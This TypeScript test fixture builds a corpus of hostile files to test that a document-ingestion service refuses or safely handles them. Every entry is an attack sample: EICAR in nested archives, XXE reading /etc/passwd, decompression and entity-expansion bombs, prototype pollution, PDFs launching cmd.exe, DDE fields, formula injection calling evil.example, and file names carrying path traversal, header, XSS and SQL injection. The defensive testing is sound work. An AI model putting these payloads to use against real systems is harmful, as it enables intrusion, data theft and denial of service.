import { deflateSync, gzipSync } from 'node:zlib'
import { writeDocx } from '../../analyzers/formats/testing/document-writers'
import { writeWorkbook } from '../../analyzers/formats/testing/workbook'
import { writeZip } from '../../analyzers/formats/testing/zip-writer'
import { eicar, maliciousFiles } from '../../evidence/checks/testing/malicious'
import { packedScript, pdfOf } from '../../evidence/checks/testing/hostile-pdf'

/**
 * One hostile file. `refused` must never be released; `harmless` may be taken, because what is hostile in it only works in
 * a program that obeys it.
 */
export type Hostile = { what: string; name: string; bytes: Buffer; fate: 'refused' | 'harmless' }

const zip = (name: string, data: string | Uint8Array) => writeZip([{ name, data }])

const laughs = (depth: number) => {
  const entities = Array.from({ length: depth }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
  return `<!DOCTYPE x [<!ENTITY l0 "lol">${entities}]><Benchmark><title>&l${depth};</title></Benchmark>`
}
const aliases = ['a0: &a0 [x, x, x, x, x, x, x, x, x]', ...Array.from({ length: 12 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(', ')}]`)].join('\n')
const record = (name: string) => `{"Records":[{"eventVersion":"1.08","eventTime":"2026-11-20T10:00:00Z","eventSource":"s3.amazonaws.com","eventName":"${name}","awsRegion":"us-gov-west-1","__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},"userIdentity":{"type":"IAMUser","arn":"arn:aws-us-gov:iam::000000000000:user/x"}}]}`
const formulas = 'employee,status\n"=HYPERLINK(""http://evil.example/?""&A1,""open"")",US citizen\n"=cmd|\'/c calc\'!A1",US citizen\n+1+1,US citizen\n@SUM(A1),US citizen\n'
const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** Hostile beyond their structure: parsers led to read, grow, run or fetch. */
function contents(): Hostile[] {
  const of = (fate: Hostile['fate'], what: string, name: string, bytes: string | Uint8Array): Hostile => ({ what, name, bytes: Buffer.from(bytes as Uint8Array), fate })
  return [
    of('refused', 'EICAR', 'invoice.txt', eicar),
    of('refused', 'EICAR in a zip', 'invoice.zip', zip('a.txt', eicar)),
    of('refused', 'EICAR in a zip in a zip', 'invoices.zip', zip('b.zip', zip('a.txt', eicar))),
    of('refused', 'EICAR packed with gzip', 'invoice.txt.gz', gzipSync(eicar)),
    of('refused', 'EICAR in a document', 'manual.docx', writeDocx(['Words.'], { extra: [{ name: 'word/media/a.png', data: eicar }] })),
    of('harmless', 'XXE that reads a file', 'scan.xml', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Benchmark><title>&e;</title></Benchmark>'),
    of('harmless', 'XXE that asks a server', 'scan2.xml', '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><Benchmark><title>x</title></Benchmark>'),
    of('harmless', 'XXE by parameter entity', 'scan3.ckl', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><CHECKLIST></CHECKLIST>'),
    of('harmless', 'a billion laughs', 'laughs.xml', laughs(9)),
    of('harmless', 'a billion laughs in a document', 'laughs.docx', writeDocx(['x'], { extra: [{ name: 'word/footnotes.xml', data: laughs(9) }] })),
    of('harmless', 'a billion laughs in a workbook', 'laughs.xlsx', writeWorkbook([{ name: 'S', rows: [['a']], xml: laughs(9) }])),
    of('harmless', 'aliases of YAML that grow', 'pipeline.yml', aliases),
    of('harmless', 'YAML that names a function', 'deploy.yaml', 'on: push\njobs: !!js/function "function(){process.exit(1)}"\n__proto__: {polluted: true}\n'),
    of('harmless', 'JSON that pollutes', 'trail.json', record('__proto__')),
    of('harmless', 'JSON ten thousand deep', 'deep.json', `${'['.repeat(10_000)}${']'.repeat(10_000)}`),
    of('harmless', 'JSON with one key twice', 'twice.json', '{"Records":[],"Records":[{"eventName":"x"}]}'),
    of('harmless', 'a line of 40 MB', 'one.log', `${'a'.repeat(40_000_000)}\n`),
    of('harmless', 'a regular expression to death', 'slow.log', `${'a'.repeat(50_000)}!\n${' '.repeat(50_000)}x\n${'sshd['.repeat(20_000)}\n`),
    of('harmless', 'a log that speaks HTML', 'page.log', '2026-11-20T10:00:00Z host sshd: session opened <script>window.veritarOwned=1</script><img src=x onerror="window.veritarOwned=1">\n'),
    of('harmless', 'a roster of formulas', 'roster.csv', formulas),
    of('refused', 'a drawing with a script behind a byte-order mark', 'plan.xml', '\uFEFF<?xml version="1.0"?><!-- --><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    of('refused', 'a page in UTF-16', 'words.txt', Buffer.from('\ufeff<html><script>alert(1)</script></html>', 'utf16le')),
    of('refused', 'a gzip of 300 MB of nothing', 'grow.log.gz', gzipSync(Buffer.alloc(300_000_000))),
    of('refused', 'gzip in gzip', 'in.log.gz', gzipSync(gzipSync('words\n'))),
    of('refused', 'a zip of a workbook that unpacks to a gigabyte', 'sheet.xlsx', writeWorkbook([{ name: 'S', rows: [['a']], xml: `<worksheet><sheetData>${' '.repeat(250_000_000)}</sheetData></worksheet>` }])),
    of('refused', 'a PDF that starts a program', 'launch.pdf', pdfOf('/OpenAction << /S /Launch /F (cmd.exe) >>')),
    of('refused', 'a PDF with a script under an escaped name', 'script.pdf', pdfOf('/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>')),
    of('refused', 'a PDF with a script under a comment', 'comment.pdf', pdfOf('/OpenAction << /S % x\n /JavaScript /JS (app.alert\\(1\\)) >>')),
    of('refused', 'a PDF with a script in a packed stream', 'packed.pdf', packedScript()),
    of('refused', 'a PDF with a file in it', 'attached.pdf', pdfOf('/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>')),
    of('refused', 'a PDF with a form that runs', 'form.pdf', pdfOf('/AcroForm << /Fields [] /XFA (<xdp/>) >>')),
    of('harmless', 'a PDF with a stream that grows a thousandfold', 'grow.pdf', pdfOf('', deflateSync(Buffer.alloc(200_000_000, 32)).toString('latin1'))),
    of('harmless', 'a PDF whose pages go in a circle', 'circle.pdf', pdfOf('', undefined, '/Kids [2 0 R]')),
    of('refused', 'a workbook that starts a program (DDE)', 'dde.xlsx', writeWorkbook([{ name: 'S', rows: [['a']] }], [{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }])),
    of('harmless', 'a workbook of formulas', 'formulas.xlsx', writeWorkbook([{ name: 'S', rows: [['employee', 'status'], [{ formula: 'HYPERLINK("http://evil.example")', result: '=1+1' }, { formula: 'WEBSERVICE("http://evil.example")' }]] }])),
    of('harmless', 'a workbook that names another workbook', 'linked.xlsx', writeWorkbook([{ name: 'S', rows: [['a']] }], [{ name: 'xl/externalLinks/_rels/externalLink1.xml.rels', data: `<Relationships><Relationship Id="rId1" Type="${relation}/externalLinkPath" Target="file:///\\\\evil.example\\share\\x.xlsx" TargetMode="External"/></Relationships>` }])),
    of('refused', 'a document that fetches a picture', 'picture.docx', writeDocx(['x'], { extra: [{ name: 'word/_rels/document.xml.rels', data: `<Relationships><Relationship Id="r1" Type="${relation}/image" Target="http://127.0.0.1:9/p.png" TargetMode="External"/></Relationships>` }] })),
    of('refused', 'a document that fetches a picture, said with single quotes and a line break', 'picture2.docx', writeDocx(['x'], { extra: [{ name: 'word/_rels/document.xml.rels', data: `<Relationships><Relationship Id='r1' Type='${relation}/image' Target='http://127.0.0.1:9/p.png' TargetMode\n=\n'External'/></Relationships>` }] })),
    of('refused', 'a document that fetches a picture, said with another prefix', 'picture3.docx', writeDocx(['x'], { extra: [{ name: 'word/_rels/document.xml.rels', data: `<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="r1" Type="${relation}/image" Target="http://127.0.0.1:9/p.png" TargetMode="External"/></r:Relationships>` }] })),
    of('refused', 'a document with a field that starts a program', 'field.docx', writeDocx(['x'], { extra: [{ name: 'word/header2.xml', data: '<w:hdr xmlns:w="x"><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:hdr>' }] })),
  ]
}

const line = '2026-11-20T10:00:00Z host sshd: session opened\n'
/** Names that lead elsewhere, look like something else, or break what shows them; what is in the file is an ordinary log. */
const names: [string, string][] = [
  ['a name that turns around', 'a\u202egol.exe\u202c.log'],
  ['a name with NUL', 'a\0.exe.log'],
  ['a name that breaks a header', 'a\r\nSet-Cookie: owned=1\r\n\r\n.log'],
  ['a name that is a path', '../../../../etc/cron.d/owned.log'],
  ['a name that is a path of Windows', '..\\..\\windows\\owned.log'],
  ['a name that is markup', '"><img src=x onerror=window.veritarOwned=1>.log'],
  ['a name that ends a script', '</script><script>window.veritarOwned=1</script>.log'],
  ['a name that is a formula', '=cmd|\'/c calc\'!A1.log'],
  ['a name that is a statement', "'; drop table \"Person\"; --.log"],
  ['a name of half characters', 'a\ud800b.log'],
  ['a name of 900 characters', `${'long'.repeat(225)}.log`],
  ['a name that pollutes', '__proto__.log'],
  ['a name of Windows', 'CON.log'],
]

/** The whole corpus, made here and nowhere kept. */
export async function corpus(): Promise<Hostile[]> {
  const structures = (await maliciousFiles()).filter(({ what }) => what !== 'nothing').map(({ what, name, bytes }): Hostile => ({ what, name, bytes, fate: 'refused' }))
  return [...structures, ...contents(), ...names.map(([what, name], i): Hostile => ({ what, name, bytes: Buffer.from(`${line}${i}\n`), fate: 'harmless' }))]
}
